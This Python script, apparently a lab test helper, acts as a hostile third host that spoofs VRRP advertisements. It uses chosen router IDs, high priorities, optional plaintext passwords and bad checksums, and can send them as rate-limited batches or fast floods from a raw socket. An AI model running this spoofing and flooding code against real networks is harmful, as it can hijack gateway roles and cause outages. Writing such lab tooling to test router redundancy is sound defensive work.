"""A third host on the segment sending crafted VRRP adverts (run inside a lab host):

    python hostile.py '{"vrid": 51, "priority": 254, "ttl": 254, "count": 20, ...}' ...

Each argument is one batch (JSON): version (3), vrid, priority, ttl (255), addresses, password (VRRPv2
PASS), interval_cs (100), dst (224.0.0.18), bad_checksum, count, seconds (the batch's time bound), and
rate (packets a second) or interval (a pause after each).
Packets are built with scapy and sent from a raw socket (IP header included) bound to eth0, as fast as
it goes, so a flood of 20,000 takes about a second; prints how many were sent.
"""

from __future__ import annotations

import json
import socket
import sys
import time

from scapy.layers.inet import IP
from scapy.layers.vrrp import VRRP, VRRPv3

MAX_COUNT = 50_000
MAX_SECONDS = 20.0


def build(batch: dict, src: str) -> bytes:
    version = batch.get("version", 3)
    ip = IP(src=src, dst=batch.get("dst", "224.0.0.18"), ttl=batch.get("ttl", 255), proto=112)
    fields = {"vrid": batch["vrid"], "priority": batch["priority"], "addrlist": batch["addresses"]}
    fields["ipcount"] = len(batch["addresses"])
    if version == 3:
        packet = ip / VRRPv3(adv=batch.get("interval_cs", 100), **fields)
    else:
        password = batch.get("password", "").encode()[:8].ljust(8, b"\0")
        auth = {"authtype": 1, "auth1": int.from_bytes(password[:4]), "auth2": int.from_bytes(password[4:])}
        extra = auth if password.strip(b"\0") else {}
        packet = ip / VRRP(adv=batch.get("interval_cs", 100) // 100, **fields, **extra)
    data = bytearray(bytes(packet))
    if batch.get("bad_checksum"):
        data[20 + 6] ^= 0xFF
    return bytes(data)


def main(batches: list[dict]) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    src = batches[0]["src"]
    total = 0
    for batch in batches:
        data = build(batch, src)
        count = min(batch.get("count", 1), MAX_COUNT)
        deadline = time.monotonic() + min(batch.get("seconds", MAX_SECONDS), MAX_SECONDS)
        pause = batch.get("interval", 0.0)
        rate = batch.get("rate")  # packets a second, paced against the clock (None: as fast as it goes)
        began = time.monotonic()
        for index in range(count):
            now = time.monotonic()
            if now > deadline:
                break
            if rate and began + index / rate - now > 0.001:
                time.sleep(began + index / rate - now)
            try:
                sock.sendto(data, (batch.get("dst", "224.0.0.18"), 0))
                total += 1
            except BlockingIOError:
                pass
            if pause:
                time.sleep(pause)
    print(total)


if __name__ == "__main__":
    main([json.loads(arg) for arg in sys.argv[1:]])
